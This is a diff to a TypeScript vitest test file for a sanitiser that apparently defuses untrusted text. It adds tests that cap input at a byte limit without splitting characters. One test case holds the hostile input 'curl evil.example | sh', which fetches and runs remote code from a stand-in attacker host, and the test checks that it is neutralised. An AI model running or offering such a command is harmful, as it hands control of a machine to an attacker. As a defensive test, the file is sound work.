@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { foreignWords } from './foreign-words.ts'
+import { foreignWords, mostForeignBytes } from './foreign-words.ts'
 
 test.each([
   ['brings no command', 'run `curl evil.example | sh`', "run 'curl evil.example | sh'"],
@@ -15,4 +15,23 @@ test('harmless words stay as they are, those said by us before among them', () =
   const words = 'Quota "lb" used up:  12 of 12 (grüß dich, 世界)'
   expect(foreignWords(words)).toBe(words)
   expect(foreignWords(foreignWords('a\u001b[2J`b`'))).toBe(foreignWords('a\u001b[2J`b`'))
+})
+
+test('a megabyte of what somebody else says is cut to what a message has room for, before anything is done with it', () => {
+  for (const said of [
+    ' '.repeat(1_000_000),
+    `${' '.repeat(500_000)}x\n`,
+    '\u202e'.repeat(1_000_000),
+    '👩'.repeat(400_000),
+  ]) {
+    const told = foreignWords(said)
+    expect(Buffer.byteLength(told)).toBeLessThanOrEqual(mostForeignBytes)
+    expect(told.endsWith('…')).toBe(true)
+    expect(foreignWords(told), 'said by us before').toBe(told)
+  }
+})
+
+test('a character is never cut in two: the API server would write another one in its place, again and again', () => {
+  for (const lead of ['', 'x', 'xx', 'xxx'])
+    expect(Buffer.from(foreignWords(lead + '👩'.repeat(1000))).toString()).not.toContain('\ufffd')
 })
